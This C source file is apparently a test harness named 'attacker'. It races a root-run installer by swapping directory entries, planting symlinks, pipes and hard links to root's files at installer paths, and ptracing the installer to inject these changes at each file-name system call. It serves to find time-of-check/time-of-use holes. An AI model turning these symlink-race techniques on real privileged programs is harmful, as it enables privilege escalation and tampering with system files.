/*
 * attacker: an ordinary user who changes what lies on the ways of an installer that runs as root.
 *
 *     attacker swap PLAN     exchanges entries with others and back in a tight loop, until standard input ends; prints
 *                            "swaps N caught 0"
 *     attacker prank PLAN    puts one thing after the other at names, in a tight loop, until standard input ends;
 *                            prints "swaps N caught M": so often something was exchanged that stood at such a name
 *     attacker step PLAN SEED PROGRAM [ARGUMENT...]
 *                            started as root: runs the program as root, and at each of its system calls that knows
 *                            file names does one or a few such things, at that very name or elsewhere, as user 1000 and
 *                            as SEED says. So between what the program looks at and what it does there is always
 *                            time for an attack. Prints
 *                            "swaps N caught M calls K"; ends as the program does.
 *
 * PLAN is a file of lines:
 *
 *     swap FOLDER ENTRY OTHER...   ENTRY, in FOLDER, is exchanged with each OTHER, so that the way to what is below
 *                                  it leads elsewhere
 *     prank FOLDER NAME...         at each NAME comes a link to each target, a directory, a pipe, and the entries
 *                                  ".plant-..." of FOLDER, such as hard links to files of root. What stands there
 *                                  is exchanged with these, which catches names that live for a moment only
 *     target PATH                  where links lead
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <ftw.h>
#include <grp.h>
#include <stdint.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <linux/ptrace.h>
#include "attack.h"

#define MAX_GROUPS 64
#define MAX_NAMES 256
#define USER 1000

struct place {
    bool swap;
    int folder, count, plant_count, swapped;
    const char *path, *names[MAX_NAMES], *plants[MAX_NAMES];
};

static struct place groups[MAX_GROUPS];
static const char *targets[MAX_NAMES];
static int group_count, target_count;
static long swaps, caught, calls;

static void find_plants(struct place *group) {
    DIR *listing = opendir(group->path);
    if (listing == NULL) {
        die(group->path);
    }
    for (struct dirent *entry; (entry = readdir(listing)) != NULL;) {
        if (strncmp(entry->d_name, ".plant-", 7) == 0 && group->plant_count < MAX_NAMES) {
            group->plants[group->plant_count++] = strdup(entry->d_name);
        }
    }
    closedir(listing);
}

/* Folders are held open: who swaps them does not stop the work inside. */
static void read_plan(const char *plan) {
    char *lines[MAX_GROUPS + MAX_NAMES];
    int count = read_lines(plan, lines, MAX_GROUPS + MAX_NAMES);
    for (int i = 0; i < count; i++) {
        const char *kind = strtok(lines[i], " "), *first = strtok(NULL, " ");
        if (kind == NULL || first == NULL || group_count == MAX_GROUPS || target_count == MAX_NAMES) {
            die(plan);
        }
        if (strcmp(kind, "target") == 0) {
            targets[target_count++] = first;
            continue;
        }
        struct place *group = &groups[group_count++];
        group->swap = strcmp(kind, "swap") == 0;
        group->path = first;
        group->folder = open(first, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (group->folder < 0) {
            die(first);
        }
        for (char *name; group->count < MAX_NAMES && (name = strtok(NULL, " ")) != NULL;) {
            group->names[group->count++] = name;
        }
        if (!group->swap) {
            find_plants(group);
        }
    }
}

static void exchange(const struct place *group, int other) {
    swaps += renameat2(group->folder, group->names[0], group->folder, group->names[other], RENAME_EXCHANGE) == 0;
}

static void swap_all(void) {
    while (!stopped()) {
        for (int g = 0; g < group_count; g++) {
            for (int i = 1; groups[g].swap && i < groups[g].count; i++) {
                exchange(&groups[g], i);
                exchange(&groups[g], i);
            }
        }
    }
}

static int remove_one(const char *path, const struct stat *status, int type, struct FTW *where) {
    (void) status;
    (void) type;
    (void) where;
    remove(path);
    return 0;
}

/* Makes NAME free again; a folder that the installer filled is emptied. */
static void clear(const struct place *group, const char *name) {
    if (unlinkat(group->folder, name, 0) == 0 || errno == ENOENT || unlinkat(group->folder, name, AT_REMOVEDIR) == 0) {
        return;
    }
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", group->path, name);
    nftw(path, remove_one, 16, FTW_DEPTH | FTW_PHYS);
}

/* One of the things that can be put at NAME: links, a directory, a pipe. */
static void put(const struct place *group, const char *name, int what) {
    int result = what < target_count ? symlinkat(targets[what], group->folder, name)
            : what == target_count ? mkdirat(group->folder, name, 0777)
            : mknodat(group->folder, name, S_IFIFO | 0666, 0);
    swaps += result == 0;
}

/* Moves a plant to NAME, or exchanges it with what stands there; tells which flag did it, or -1. */
static int plant(const struct place *group, const char *name, int which) {
    const char *seed = group->plants[which];
    if (renameat2(group->folder, seed, group->folder, name, RENAME_NOREPLACE) == 0) {
        swaps++;
        return RENAME_NOREPLACE;
    }
    if (renameat2(group->folder, seed, group->folder, name, RENAME_EXCHANGE) == 0) {
        caught++;
        return RENAME_EXCHANGE;
    }
    return -1;
}

static void prank_name(const struct place *group, const char *name) {
    for (int i = 0; i < target_count + 2; i++) {
        put(group, name, i);
        clear(group, name);
    }
    for (int i = 0; i < group->plant_count; i++) {
        int flag = plant(group, name, i);
        if (flag >= 0) {
            renameat2(group->folder, name, group->folder, group->plants[i], (unsigned) flag);
        }
    }
}

static void prank_all(void) {
    while (!stopped()) {
        for (int g = 0; g < group_count; g++) {
            for (int i = 0; !groups[g].swap && i < groups[g].count; i++) {
                prank_name(&groups[g], groups[g].names[i]);
            }
        }
    }
}

static int below(int most) {
    return (int) (random() % most);
}

/* One thing in one folder: most swaps are undone soon, so that a look and the act after it see different things. */
static void act(struct place *group, const char *name) {
    if (group->swap) {
        if (group->swapped > 0) {
            exchange(group, group->swapped);
            group->swapped = 0;
        } else if (below(2) == 0) {
            group->swapped = 1 + below(group->count - 1);
            exchange(group, group->swapped);
        }
        return;
    }
    switch (below(4)) {
        case 0: clear(group, name); break;
        case 1: put(group, name, below(target_count + 2)); break;
        default:
            if (group->plant_count > 0) {
                plant(group, name, below(group->plant_count));
            }
    }
}

static bool knows_names(uint64_t call) {
    switch (call) {
        case SYS_openat: case SYS_statx: case SYS_mkdirat: case SYS_symlinkat: case SYS_readlinkat: case SYS_unlinkat:
        case SYS_renameat2: case SYS_fchownat: case SYS_fchmodat: case SYS_linkat: case SYS_mount:
        case SYS_faccessat: case SYS_umask: case SYS_setfsuid:
            return true;
        default:
            return false;
    }
}

/* The name that a call is about, or nothing. */
static void read_name(pid_t task, const struct ptrace_syscall_info *info, char *name, size_t size) {
    bool link = info->entry.nr == SYS_symlinkat;
    uint64_t address = info->entry.args[link ? 2 : 1];
    memset(name, 0, size);
    for (size_t done = 0; done + sizeof(long) < size && memchr(name, 0, done) == NULL; done += sizeof(long)) {
        errno = 0;
        long word = ptrace(PTRACE_PEEKDATA, task, address + done, 0);
        if (errno != 0) {
            *name = '\0';
            return;
        }
        memcpy(name + done, &word, sizeof word);
    }
}

/* Something at the very name of a call, where it is one of the plan. */
static void act_at(const char *name) {
    int first = below(group_count);
    for (int i = 0; i < group_count; i++) {
        struct place *group = &groups[(first + i) % group_count];
        for (int n = 0; n < (group->swap ? 1 : group->count); n++) {
            if (strcmp(group->names[n], name) == 0) {
                act(group, name);
                return;
            }
        }
    }
}

static void at_call(pid_t task) {
    struct ptrace_syscall_info info;
    if (ptrace(PTRACE_GET_SYSCALL_INFO, task, sizeof info, &info) <= 0 || info.op != PTRACE_SYSCALL_INFO_ENTRY
            || !knows_names(info.entry.nr)) {
        return;
    }
    calls++;
    if (below(4) == 0) {
        char name[64];
        read_name(task, &info, name, sizeof name);
        act_at(name);
    }
    for (int i = 1 + below(3); i > 0; i--) {
        struct place *group = &groups[below(group_count)];
        act(group, group->names[below(group->count)]);
    }
}

static int step(char **command) {
    pid_t program = fork();
    if (program == 0) {
        ptrace(PTRACE_TRACEME, 0, 0, 0);
        raise(SIGSTOP);
        execv(*command, command);
        _exit(125);
    }
    int status, result = 125;
    waitpid(program, &status, 0);
    if (ptrace(PTRACE_SETOPTIONS, program, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL) != 0
            || setgroups(0, NULL) != 0 || setegid(USER) != 0 || seteuid(USER) != 0) {
        die("step");
    }
    ptrace(PTRACE_SYSCALL, program, 0, 0);
    while (waitpid(program, &status, 0) == program) {
        if (!WIFSTOPPED(status)) {
            result = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
            break;
        }
        bool call = WSTOPSIG(status) == (SIGTRAP | 0x80);
        if (call) {
            at_call(program);
        }
        ptrace(PTRACE_SYSCALL, program, 0, (long) (call || WSTOPSIG(status) == SIGTRAP ? 0 : WSTOPSIG(status)));
    }
    for (int g = 0; g < group_count; g++) {
        if (groups[g].swap && groups[g].swapped > 0) {
            exchange(&groups[g], groups[g].swapped);
        }
    }
    return result;
}

int main(int count, char **arguments) {
    int status = 0;
    if (count < 3) {
        fputs("attacker: its first lines tell how to call it\n", stderr);
        return 125;
    }
    read_plan(arguments[2]);
    if (strcmp(arguments[1], "swap") == 0) {
        swap_all();
    } else if (strcmp(arguments[1], "prank") == 0) {
        prank_all();
    } else if (strcmp(arguments[1], "step") == 0 && count > 4) {
        srandom((unsigned) atoi(arguments[3]));
        status = step(arguments + 4);
    }
    printf("swaps %ld caught %ld calls %ld\n", swaps, caught, calls);
    return status;
}
